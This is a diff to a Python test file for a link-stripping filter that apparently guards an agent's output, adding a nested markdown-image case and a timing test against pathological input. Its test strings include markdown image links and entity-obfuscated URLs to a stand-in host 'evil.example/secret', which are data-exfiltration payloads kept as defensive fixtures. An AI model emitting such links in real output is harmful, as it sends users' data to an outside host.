@@ -1,7 +1,9 @@
 """What an agent may do, whatever its model asks for."""
 
+import time
 from typing import Any
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -133,8 +135,21 @@ class TestWithoutLinks:
             "&amp;#x2f;&amp;#x2f;evil.example/secret",
             "![a][1]\n\n[1]: https://evil.example/secret",
             "data:text/html,secret",
+            "![a [b]](https://evil.example/secret)",
         ):
             assert "secret" not in without_links(text, "api.example.com"), text
+
+    @pytest.mark.parametrize(
+        "part", ["![", "![](", "![][", "&amp;", "amp;", "// ", "//(", "<", "https:"]
+    )
+    def test_takes_any_text_in_little_time_and_space(self, part: str) -> None:
+        text = "&" + part * (32_000 // len(part))
+
+        began = time.process_time()
+        left = without_links(text, "api.example.com")
+
+        assert time.process_time() - began < 1
+        assert len(left.encode()) < 1.5 * len(text)
 
     def test_leaves_links_to_the_api_and_words(self) -> None:
         text = "Read https://api.example.com/docs or https://api.example.com.evil.example/x"
